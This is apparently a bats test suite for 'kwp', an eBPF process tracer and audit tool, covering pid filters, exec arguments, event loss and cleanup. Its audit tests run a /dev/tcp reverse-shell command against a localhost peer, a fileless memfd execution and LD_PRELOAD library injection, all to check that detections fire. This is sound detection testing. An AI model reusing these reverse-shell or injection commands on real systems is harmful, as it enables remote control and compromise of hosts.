#!/usr/bin/env bats
# native.bats: kwp in this kernel, as root. Skipped where the kernel, or the user, can't.
bats_require_minimum_version 1.5.0
load helpers
load acts/table

setup_file() {
	need_acts
}

setup() {
	need_kernel
	cd "$BATS_TEST_TMPDIR"
	watcher= worker=
}

teardown() {
	[ -z "$watcher" ] || kill -KILL "$watcher" || true
	[ -z "$worker" ] || kill -KILL "$worker" || true
}

# A shell that already runs (pid in $worker) and does each line that is sent to it; `same` of them.
start_worker() {
	mkfifo orders
	bash -c 'while read -r line; do eval "$line"; done' <>orders 3>&- &
	worker=$!
}
order() { printf '%s\n' "$1" ": >'$PWD/done'" >orders; until_true 10 test -e done; rm done; }

# The BPF programs that process $1 holds by themselves or by a link: their ids.
programs() { sed -n 's/^prog_id:\s*//p' /proc/"$1"/fdinfo/* 2>/dev/null | sort -nu; }
# Is none of these programs there?
gone() { local id; for id; do ! bpftool prog show id "$id" >/dev/null 2>&1 || return 1; done; }

# ---- which processes ----

@test "-p sees a process that runs, from the moment that kwp says so, and no other" {
	start_worker
	mkdir a
	watch trace -o json -e create,rename,unlink -p "$worker"
	order ': >a/one'
	: >a/other
	mkdir a/other2
	unwatch
	is 0
	has '.event.action == "create" and .file.path == "\($d)/a/one" and .process.pid == '"$worker"
	hasnt '.file.path | contains("/other")'
	all ".process.pid == $worker"
}

@test "-p without -f leaves out children, with -f it has them, also those that ran before" {
	start_worker
	mkfifo late
	order "{ read -r x <$PWD/late; act open $PWD/before cw; } >/dev/null &"
	for f in '' f; do
		watch trace -o json -e create -p "$worker" ${f:+-f}
		order "act open $PWD/child cw >/dev/null; rm $PWD/child"
		[ -z "$f" ] || { echo >late; until_true 10 test -e before; }
		unwatch
		is 0
		cp out "seen$f"
	done
	all ".process.pid == $worker" seen
	has '.file.path == "\($d)/child"' seenf
	has '.file.path == "\($d)/before"' seenf
}

@test "-p may name several, by comma and by repetition" {
	sleep 30 3>&- & a=$!
	sleep 30 3>&- & b=$!
	sleep 30 3>&- & c=$!
	sleep 30 3>&- & worker=$!
	watch trace -o json -e exit -p "$a,$b" -p "$c"
	kill "$a" "$b" "$c" "$worker"
	worker=
	until_true 10 eval '[ "$(jq -s length out)" -ge 3 ]'
	unwatch
	[ "$(jq -sc '[.[].process.pid] | sort' out)" = "$(printf '%s\n' "$a" "$b" "$c" | jq -sc sort)" ]
}

@test "-p of a process that has gone, and of none at all, is exit 2 and a sentence" {
	sleep 0 &
	gone=$!
	wait $gone
	refuses "$gone" trace -q -d 5 -p "$gone"
	refuses "$gone" trace -q -d 5 -f -p "$$,$gone"
}

@test "that a child was not followed for want of room is told" {
	mkfifo ask
	bash -c 'while read -r line; do $line; done' <ask 3>&- & worker=$!
	exec 8>ask
	watch trace --strict -e exec -f -p "$worker"
	for id in $(sed -n 's/^map_id:\t//p' "/proc/$watcher"/fdinfo/*); do bpftool map show id "$id"; done >maps
	grab fill "$(sed -n 's/^\([0-9]*\): hash  name kwp_pids .*/\1/p;T;q' maps)"
	printf '%s\n' /bin/true exit >&8
	exec 8>&-
	wait "$worker"
	worker=
	unwatch
	is 5
	grep -qx 'kwp-trace: 1 processes were not followed: there was no room for more' err
}

@test "-u, -n and -x" {
	trace -e exec,exit,unlink -u 1234 -- act +setuid 0 , +setuid 1234 , exit 0
	all '.user.id == 1234'
	trace -e exec -n rue -- sh -c 'cat /dev/null; /bin/true'
	judge 'map(.process.name) == ["true"]' "only true" out
	trace -e open,unlink -x -- act unlink nothere , open nothere r , open . r
	count 2 '.event.outcome == "failure"'
	all '.event.outcome == "failure" and .kwp.result < 0'
}

@test "--filter in the running form" {
	trace -e create,unlink --filter 'event.action==unlink and file.name~^b' -- act open a cw , open b cw , unlink a , unlink b
	is 0
	judge 'map(.file.path) == ["\($d)/b"]' "only b" out
}

@test "-t sees one thread only" {
	cat >threads.py <<'P'
import os, sys, threading
def work(name):
    os.close(os.open(name, os.O_CREAT | os.O_WRONLY))
def other():
    print(threading.get_native_id(), flush=True)
    go.wait()
    work("by-other")
go = threading.Event()
t = threading.Thread(target=other)
t.start()
sys.stdin.readline()
go.set()
work("by-main")
t.join()
P
	command -v python3 || skip "no python3"
	mkfifo orders
	python3 threads.py <>orders >tid 3>&- &
	worker=$!
	until_true 20 test -s tid
	watch trace -o json -e create -t "$(cat tid)"
	echo >orders
	wait "$worker"
	worker=
	unwatch
	has '.file.path == "\($d)/by-other"'
	hasnt '.file.path == "\($d)/by-main"'
}

# ---- its end ----

@test "-d ends it, --count ends it after so many lines" {
	begin=$SECONDS
	trace -e exec -d 0.5
	is 0
	[ $((SECONDS - begin)) -lt 20 ]
	trace -e create --count 3 -- act open a cw , open b cw , open c cw , open e cw
	[ "$(jq -s length out)" = 3 ]
}

@test "SIGINT and SIGTERM end it with status 0 and the line of losses last" {
	for signal in INT TERM; do
		watch trace -e exec
		/bin/true
		status=0
		kill -$signal "$watcher"
		wait "$watcher" || status=$?
		watcher=
		is 0
		tail -n 1 err | grep -qE '^kwp-trace: [0-9]+ events, 0 lost$'
	done
}

@test "a closed pipe ends it" {
	timeout 20 bash -c '"$KWP" trace -q -e exec 2>err 3>&- | head -n 2 >/dev/null' &
	reader=$!
	for _ in $(seq 200); do
		kill -0 $reader 2>/dev/null || break
		/bin/true
		sleep 0.05
	done
	wait $reader
	run ! grep -i pipe err
}

# ---- exec in full ----

@test "arguments of 128 KiB, and of 1 MiB in total, are complete in JSON" {
	trace -q -e exec -- bash -c 'a=$(head -c 131000 /dev/zero | tr "\0" x); exec /bin/true "$a" end'
	is 0
	has '.process.name == "true" and (.process.args | map(length)) == [9,131000,3]'
	has '.process.name == "true" and .process.args[2] == "end" and (.process.args[1] | test("^x+$"))'
	trace -q -e exec -- bash -c 'a=$(head -c 131000 /dev/zero | tr "\0" y); exec /bin/true "$a" "$a" "$a" "$a" "$a" "$a" "$a" "$a" end'
	is 0
	has '.process.name == "true" and (.process.args | map(length) | add) == 1048012 and .process.args[9] == "end"'
	hasnt '.process.name == "true" and (.kwp.incomplete // [] | index("process.args"))'
}

@test "10,000 arguments, empty ones among them" {
	trace -q -e exec -- bash -c 'exec /bin/true $(seq 9998) "" last'
	has '.process.name == "true" and (.process.args | length) == 10001 and .process.args[-2:] == ["","last"]'
}

@test "a deep path: 100 directories, 3,000 bytes" {
	deep=$(printf "%.0sabcdefghijklmnopqrstuvwxyz123/" {1..100})
	mkdir -p "$deep"
	cp /bin/true "$deep/t"
	act open "$deep/f" cw
	trace -q -e exec,open -- act open "$deep/f" r , spawn "$deep/t"
	is 0
	has '.event.action == "open" and .file.path == "\($d)/'"${deep}f"'" and (.kwp.incomplete | not)'
	has '.event.action == "exec" and .process.executable == "\($d)/'"${deep}t"'"'
}

# ---- each type by an act ----

@test "acts on processes" { rows_run process; }
@test "acts on files" { rows_run file; }
@test "mounts and roots" { rows_run mount; }
@test "acts on the network" { rows_run net; }
@test "acts on tasks" { rows_run task; }
@test "acts on memory and the kernel" { rows_run kernel; }
@test "acts through io_uring" { uring nop || skip "no io_uring here"; rows_run uring; }
@test "acts by 32-bit system calls" { compat || skip "no 32-bit calls here"; rows_run compat; }

@test "virtual machine sockets" {
	trace -q -e socket,connect -- act vsock 2 99
	grep -q '^vsock -97' said && skip "no AF_VSOCK here"
	has '.event.action == "socket" and .kwp.socket.family == "vsock"'
	has '.event.action == "connect" and .kwp.socket.family == "vsock" and .kwp.socket.cid == 2'
}

@test "what is not known is not told: standard streams that were not looked at are not 'none'" {
	trace -q -e exec,accept,connect -- act tcp 8099 , +exec ./nothere
	hasnt '.process.io.stdin == "none"'
}

@test "any system call, with arguments and result as text" {
	trace -q -e syscall:unlink,rename,exit_group -- act unlink nothere , open a cw , rename a b
	is 0
	all '.event.action == "syscall"'
	has '.kwp.syscall.name == "unlink" and .kwp.syscall.text == "unlink(\"nothere\") = -1 ENOENT (No such file or directory)" or (.kwp.syscall.text | startswith("unlink(\"nothere\") = -"))'
	has '.kwp.syscall.name == "rename" and (.kwp.syscall.text | contains("\"a\", \"b\"")) and .kwp.result == 0 and .event.duration > 0'
	has '.kwp.syscall.name == "exit_group"'
	hasnt '.kwp.syscall.name | IN("unlink","rename","exit_group") | not'
}

@test "-s begins with what already runs" {
	sleep 30 3>&- &
	worker=$!
	trace -q -s -e exec -d 0.3
	has ".process.pid == $worker"' and .process.name == "sleep" and .process.args == ["sleep","30"] and .kwp.backend == "iterator" and (.process.executable | endswith("/sleep"))'
}

# ---- its own footprint ----

@test "no program stays behind: not after its end, not after kill -9" {
	command -v bpftool || skip "no bpftool"
	for signal in INT KILL; do
		watch trace -e all
		ids=$(programs "$watcher")
		[ "$(wc -w <<<"$ids")" -gt 10 ]
		kill -$signal "$watcher"
		wait "$watcher" || true
		watcher=
		until_true 10 gone $ids
	done
}

@test "-e exec attaches nothing to opens, sockets or every system call" {
	command -v bpftool || skip "no bpftool"
	watch trace -e exec
	for id in $(programs "$watcher"); do bpftool prog show id "$id" -j | jq -r .name; done >names
	unwatch
	cat names
	grep -q kwp_exec names
	run ! grep -E 'open|rename|connect|accept|sys_enter|sys_leave|dns|uring|kwp_x_|dup' names
}

@test "a line is out within 100 ms of its act in a quiet stream" {
	watch trace -o json -e create
	best=1000
	for i in 1 2 3 4 5; do
		sleep 0.3
		start=$(date +%s%N)
		: >"quiet$i"
		until_true 5 grep -q "quiet$i" out
		ms=$((($(date +%s%N) - start) / 1000000))
		[ $ms -ge $best ] || best=$ms
	done
	unwatch
	echo "$best ms"
	[ $best -lt 100 ]
}

@test "in a flood, events and losses are the acts exactly" {
	act open f cw >/dev/null
	trace -e chmod --buffer 64 -- act repeat 200000 chmod 600 f
	is 0
	cat err
	judge '(map(select(.event.action == "chmod")) | length) + (map(.kwp.loss.events[]? | select(startswith("chmod=")) | ltrimstr("chmod=") | tonumber) | add // 0) == 200000' "200000 in all" out
	lost=$(jq -s 'map(select(.event.action == "loss") | .kwp.loss.total) | add // 0' out)
	grep -q ", $lost lost" err
}

@test "--strict is exit 5 when events were lost" {
	act open f cw >/dev/null
	watch trace --strict --buffer 64 -o json -e chmod
	kill -STOP "$watcher"
	act repeat 5000 chmod 600 f >/dev/null
	kill -CONT "$watcher"
	unwatch
	is 5
	has '.event.action == "loss" and .kwp.loss.total > 1000'
}

@test "kwp leaves mounts and files of the machine as they were" {
	cp /proc/self/mounts before
	trace -e all -d 0.2
	cmp before /proc/self/mounts
}

# ---- kwp audit ----

@test "audit finds a reverse shell and a program without a file, and not a quiet shell" {
	port=8100
	peer $port $'echo it works; exit\n' >peer.said 3>&- &
	worker=$!
	cp /bin/true t
	until_true 10 grep ready peer.said
	status=0
	"$KWP" audit -q -o json -w out -- bash -c "bash -c 'exec bash 0<>/dev/tcp/127.0.0.1/$port >&0 2>&0'; act +memfd-exec hidden ./t x; echo hello | bash -c cat" >said 2>err || status=$?
	grep -q 'it works' peer.said
	has '.event.kind == "alert" and .rule.name == "reverse-shell" and .process.io.remote.port == 8100 and .event.severity == 99 and (.message | contains("127.0.0.1"))'
	has '.rule.name == "fileless-exec" and .file.deleted and .file.filesystem == "tmpfs"'
	all '.rule.name | IN("reverse-shell","fileless-exec")'
}

@test "a library that a program's environment puts into it is a finding, unless it was there before" {
	lib=$(ldconfig -p | sed -n 's/.*=> \(.*libm\.so\.6\)$/\1/p' | head -n 1)
	"$KWP" audit -q -o json -- sh -c "LD_PRELOAD=$lib cat /dev/null; cp $lib late.so; LD_PRELOAD=\$PWD/late.so LD_LIBRARY_PATH=/x cat /dev/null" >out
	has '.rule.name == "library-injected" and .file.path == "\($d)/late.so" and .file.injected and .process.name == "cat" and (.message | contains("LD_PRELOAD=\($d)/late.so"))'
	hasnt '.rule.name == "library-injected" and .file.path != "\($d)/late.so"'
	trace -q -e exec --fields process.name,process.env_vars -- env LD_PRELOAD="$lib" TOKEN=secret true
	has '.process.name == "true" and .process.env_vars == ["LD_PRELOAD='"$lib"'"]'
	hasnt '.process.name == "env" and .process.env_vars'
}

@test "audit --exit-code is 1 with findings and 0 without" {
	cp /bin/true t
	run "$KWP" audit -q -w out --exit-code --filter 'process.pid>0' -d 0.3 -n nosuchname
	[ "$status" = 0 ]
	watch audit -o json --exit-code
	act +memfd-exec hidden ./t x
	until_true 10 grep -q fileless-exec out
	unwatch
	is 1
}
